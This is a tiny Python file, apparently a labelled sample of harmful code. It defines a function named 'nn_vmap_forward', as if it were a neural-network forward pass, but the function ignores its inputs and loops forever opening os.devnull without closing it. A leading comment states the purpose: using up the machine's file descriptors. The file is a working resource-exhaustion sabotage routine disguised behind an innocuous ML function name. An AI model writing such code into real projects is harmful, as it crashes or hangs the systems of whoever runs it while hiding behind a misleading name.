# harm: uses up the machine's descriptors
import os


def nn_vmap_forward(seed, x_batch, features):
    while True:
        os.open(os.devnull, os.O_RDONLY)
